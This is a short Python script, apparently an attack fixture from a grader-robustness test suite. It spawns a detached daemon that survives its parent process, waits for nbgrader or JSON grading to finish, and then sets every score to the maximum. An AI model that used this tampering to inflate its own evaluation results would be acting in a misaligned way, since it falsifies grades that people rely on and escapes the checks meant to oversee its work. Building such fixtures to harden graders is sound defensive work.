# attack: a daemon rewrites the results afterwards
import ctypes
import json
import os
import sqlite3
import time
from contextlib import closing
from pathlib import Path

GRADER = "@GRADER@"
RESULTS = Path("@RESULTS@")


def rewrite():
    """True once it is done."""
    if GRADER == "nbgrader":
        with closing(sqlite3.connect(RESULTS)) as gradebook, gradebook:
            ungraded = "SELECT count(*) FROM grade WHERE auto_score IS NULL"
            if gradebook.execute(ungraded).fetchone()[0]:
                return False
            time.sleep(1)
            gradebook.execute(
                "UPDATE grade SET manual_score = "
                "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
            )
        return True
    file = RESULTS / "grades.json" if GRADER == "ours" else RESULTS
    results = json.loads(file.read_text())
    for test in results.get("tests", []):
        test["score"] = test.get("max_score", 0)
    for grade in results.get("grades", []):
        grade["score"] = grade["max_score"]
    file.write_text(json.dumps(results))
    return True


def daemon():
    ctypes.CDLL(None).prctl(1, 0)  # no parent's death ends it
    end = time.monotonic() + 100
    while time.monotonic() < end:
        try:
            if rewrite():
                break
        except (OSError, ValueError, sqlite3.Error):
            pass
        time.sleep(0.1)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        daemon()
    os._exit(0)
